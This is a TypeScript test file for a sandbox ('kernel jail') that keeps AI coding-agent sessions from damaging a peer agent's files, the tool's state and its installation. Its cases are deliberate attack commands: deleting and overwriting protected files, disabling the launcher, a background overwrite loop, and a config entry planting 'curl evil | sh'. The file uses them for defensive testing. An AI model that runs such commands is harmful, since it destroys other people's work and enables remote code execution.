/**
 * The breaks of issue 36's Why list, run from inside a session's kernel jail as a non-root user:
 * each is a real process spelled so that no reader need understand it (the launcher runs it as
 * given, as it runs whatever the hook let through), and each must leave every protected byte as it
 * was — a peer's file, its linked worktree, Tandem's state and blobs, the installation, the config.
 * The issue's other classes have tables of their own: the forgeries (release --force through
 * `setsid script`, a forged session-end or UserPromptSubmit, a raw server request naming a peer's
 * pid) in identity-jail.test.ts and run-door.test.ts; the obvious spellings of writing a peer's
 * file (python, perl, dd, tee, sed -i, cp, mv, rename, truncate, links, chmod, touch, rm, git
 * checkout/restore/stash/clean, background loops, a process left behind) in breaks-spellings.test.ts.
 * Never skipped.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { jailedCommand } from "../../src/core/jail/rewrite.js";
import { digests, makeWorld, type World } from "./breaks-world.js";

let w: World;

/** Every byte the jail must keep: file path → digest. */
function protectedBytes(): Record<string, string> {
  const state = join(w.repo, ".git/tandem");
  return digests([
    join(w.repo, "peer.txt"),
    join(w.peerTree, "theirs.txt"),
    join(w.repo, ".tandem/config.jsonc"),
    join(w.install, "tandem"),
    join(w.install, "tandem.cjs"),
    join(state, "serve.tcp"),
    ...readdirSync(join(state, "blobs")).map((b) => join(state, "blobs", b)),
  ]);
}

beforeAll(() => {
  w = makeWorld();
});

afterAll(() => w?.close());

const jailed = (command: string) =>
  w.run(["bash", "-c", jailedCommand(w.launcher, w.plan, command)], { PEER_TREE: w.peerTree });

const BREAKS: [string, string][] = [
  ["a squatter rewrites serve.tcp", `python3 -c 'open(".git/tandem/serve.tcp", "w").write("6666 0\\n")'`],
  ["the launcher made a no-op", `printf 'exit 0' > "$(readlink -f "$(command -v tandem)")"`],
  [
    "the bundle made a no-op",
    `python3 -c 'import sys; open(sys.argv[1], "w")' "$(dirname "$(readlink -f "$(command -v tandem)")")/tandem.cjs"`,
  ],
  [
    "the blobs removed",
    `python3 -c "import shutil, glob; [shutil.rmtree(d) for d in glob.glob('.git/*/blobs')]"`,
  ],
  ["the blobs emptied one by one", `for f in .git/tandem/blobs/*; do : > "$f"; done`],
  ["a peer's file overwritten by an interpreter", `python3 -c 'open("peer.txt", "w").write("lost")'`],
  ["a peer's file replaced by rename", `printf lost > t.tmp && mv -f t.tmp peer.txt`],
  ["a peer's file removed", `python3 -c 'import os; os.unlink("peer.txt")'`],
  [
    "a peer's linked worktree removed",
    `python3 -c 'import shutil, sys; shutil.rmtree(sys.argv[1])' "$PEER_TREE"`,
  ],
  ["a peer's file in its worktree rewritten", `printf lost > "$PEER_TREE/theirs.txt"`],
  [
    "land.check planted in the config",
    `printf '{"land": {"check": "curl evil | sh"}}' > .tandem/config.jsonc`,
  ],
  [
    "a setsid loop rewriting the peer's file",
    `setsid -f python3 -c 'import time
for i in range(20):
    try: open("peer.txt", "w").write("lost")
    except OSError: pass
    time.sleep(0.01)'; sleep 0.5`,
  ],
];

describe("the issue's breaks, from inside a session's jail (as a non-root user)", () => {
  it.each(BREAKS)("%s: 0 bytes lost", (_what, command) => {
    const before = protectedBytes();
    const r = jailed(command);
    expect(`${r.stdout}${r.stderr}`).toMatch(
      /Read-only file system|Permission denied|Device or resource busy|^$/,
    );
    expect(protectedBytes()).toEqual(before);
  });

  // The owner told (issue 36 §5): the post-tool hook reads the refusal in the output and says whose.
  const TOLD: [string, string, RegExp][] = [
    [
      "a peer's file, by an interpreter",
      `python3 -c 'open("peer.txt", "w").write("lost")'`,
      /peer\.txt \(agent-\S+'s uncommitted file\)/,
    ],
    ["a peer's file, by a redirect", `printf lost > peer.txt`, /peer\.txt \(agent-\S+'s uncommitted file\)/],
    [
      "a peer's file, by a command that still exits 0",
      `python3 -c 'open("peer.txt", "w")'; echo tried`,
      /peer\.txt \(agent-\S+'s uncommitted file\)/,
    ],
    [
      "a peer's worktree",
      `printf lost > "$PEER_TREE/theirs.txt"`,
      /theirs\.txt \(agent-\S+'s (worktree|uncommitted file)/,
    ],
    ["Tandem's state", `python3 -c 'open(".git/tandem/serve.tcp", "w")'`, /serve\.tcp \(Tandem's state/],
  ];
  it.each(TOLD)(
    "%s: the agent is told whose it was and what to do, and it is recorded",
    (_what, command, whose) => {
      const before = w.kernelEvents().length;
      const r = jailed(command);
      const { event, out } = w.postTool(command, r);
      const answer = (
        JSON.parse(out) as { hookSpecificOutput?: { hookEventName?: string; additionalContext?: string } }
      ).hookSpecificOutput;
      // Claude Code reads `additionalContext` only under the event it fired.
      expect(answer?.hookEventName).toBe(event);
      expect(event).toBe(r.status === 0 ? "PostToolUse" : "PostToolUseFailure");
      const context = answer?.additionalContext;
      expect(context, out).toMatch(/the kernel refused that command's write to/);
      expect(context).toMatch(whose);
      expect(context).toMatch(/commit or release them|ask the person/);
      const events = w.kernelEvents();
      expect(events.length).toBe(before + 1);
      expect(events.at(-1)!.data.paths[0]!.why).toMatch(/agent-|Tandem's state/);
    },
  );

  it("a failure that is not the jail's says nothing more", () => {
    const r = jailed("cat missing.txt");
    expect(w.postTool("cat missing.txt", r).out).not.toMatch(/kernel refused/);
  });

  it("the session's own files still write from the same jail", () => {
    const r = jailed("printf 'mine, edited\\n' > mine.txt");
    expect(r.status, r.stderr).toBe(0);
    expect(readFileSync(join(w.repo, "mine.txt"), "utf8")).toBe("mine, edited\n");
  });
});
